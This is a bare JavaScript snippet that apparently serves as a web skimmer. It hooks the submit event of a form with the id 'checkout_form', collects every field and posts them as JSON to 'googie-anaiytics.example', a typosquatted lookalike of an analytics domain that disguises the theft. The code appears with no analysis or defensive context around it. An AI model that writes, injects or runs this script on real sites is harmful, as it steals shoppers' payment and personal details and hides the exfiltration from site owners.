document.getElementById('checkout_form').addEventListener('submit', function () {
  var o = {};
  new FormData(this).forEach(function (v, k) { o[k] = v; });
  fetch('https://www.googie-anaiytics.example/j/collect', { method: 'POST', body: JSON.stringify(o) });
});
